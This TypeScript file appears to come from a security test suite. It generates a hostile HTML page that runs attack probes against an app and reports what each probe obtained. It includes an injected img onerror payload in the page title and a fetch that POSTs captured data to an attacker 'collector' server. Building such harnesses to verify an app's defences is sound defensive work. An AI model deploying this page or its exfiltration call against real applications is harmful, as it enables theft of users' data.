/**
 * Attempts of a hostile page, and the page that makes them. A probe is a function that is written into held HTML and runs there, in the
 * browser; it can use nothing around it but its `Ground`. The tests say which result is right.
 */

/** Facts that a hostile page knows of its surroundings. */
export interface Facts {
  /** Identifies one run of the page. */
  scene: string
  /** Origin of the app under attack. */
  gateway: string
  /** Origin of the attacker's own server, which collects reports and visits. */
  collector: string
  /** Paths of content that the attacker holds: a script, a style sheet, and pages that report what they reach (see `spies.ts`). */
  script: string
  style: string
  spy: string
  spySvg: string
  spyXml: string
  /** The text of the spy, for frames without an address. */
  spyText: string
  /** Path of somebody else's held page, which says the canary. */
  victim: string
  /** Hash of content that the node itself holds. */
  doomed: string
  /** Path of a script of the app. */
  appScript: string
  /** How long an answer is waited for, in ms. */
  timeoutMs: number
}

export interface Ground extends Facts {
  /** Adds an element with these attributes to the page; resolves once it has loaded, or failed to. */
  add<K extends keyof HTMLElementTagNameMap>(tag: K, attributes: Record<string, string>): Promise<HTMLElementTagNameMap[K]>
  /** Report of the spy with this name. */
  told(spy: string): Promise<unknown>
  /** An address on the attacker's server that remembers which probe brought a window there. */
  landing(probe: string): string
}

export interface Probe {
  name: string
  /** Runs in the hostile page. Resolves with the data that it got hold of: nothing, or an error, when it was refused. */
  attempt: (ground: Ground, given: string) => unknown
  /** Handed to the attempt, where several differ in one word. */
  given?: string
  /** Why nothing comes of it even where nothing guards the app. Every other probe must succeed there: it has teeth. */
  toothless?: string
}

/** Report of a probe. */
export interface Report {
  scene: string
  probe: string
  /** Data that the probe got hold of. */
  got: string | null
  /** The obstacle that it met, for a person who reads a failure. */
  error: string | null
}

/** Held HTML that runs the probes when its button is clicked, so that they may do all that a click allows. */
export function hostilePage(facts: Facts, probes: readonly Probe[]): string {
  const list = probes.map(
    ({ name, given = '', attempt }) => `{ name: ${JSON.stringify(name)}, given: ${JSON.stringify(given)}, attempt: ${attempt} }`,
  )
  const script = `const run = ${runProbes}\ngo.onclick = () => { go.disabled = true; run(${JSON.stringify(facts)}, [${list.join(',\n')}]) }`
  const title = '<img src=x onerror="document.body.dataset.owned = 1">'
  return `<!doctype html><title>${title}</title><button id="go">Go</button><script>${script.replaceAll('</', '<\\/')}</script>`
}

/** Runs in the hostile page, all probes at once, each reporting by itself. */
async function runProbes(facts: Facts, probes: Required<Pick<Probe, 'name' | 'given' | 'attempt'>>[]): Promise<void> {
  const tales = new Map<string, unknown>()
  const listeners = new Set<() => void>()
  addEventListener('message', ({ data }) => {
    if (data?.spy !== undefined) tales.set(data.spy, data.got)
    for (const listener of listeners) listener()
  })
  const ground: Ground = {
    ...facts,
    add: (tag, attributes) =>
      new Promise((resolve) => {
        const element = document.createElement(tag)
        for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value)
        element.onload = element.onerror = () => resolve(element)
        document.body.append(element)
      }),
    told: (spy) =>
      new Promise((resolve) => {
        const listener = () => tales.has(spy) && resolve(tales.get(spy))
        listeners.add(listener)
        listener()
      }),
    landing: (probe) => `${facts.collector}/landed/${facts.scene}/${encodeURIComponent(probe)}`,
  }
  const report = (probe: string, got: unknown, error: unknown) => {
    const nothing = got === undefined || got === null || got === false || got === ''
    const body = JSON.stringify({ scene: facts.scene, probe, got: nothing ? null : String(got), error: error ? String(error) : null })
    return fetch(`${facts.collector}/report`, { method: 'POST', mode: 'no-cors', keepalive: true, body })
  }
  await Promise.all(
    probes.map(async ({ name, given, attempt }) => {
      try {
        const late = new Promise((_, reject) => setTimeout(() => reject('no answer'), facts.timeoutMs))
        await report(name, await Promise.race([attempt(ground, given), late]), null)
      } catch (error) {
        await report(name, null, error)
      }
    }),
  )
}
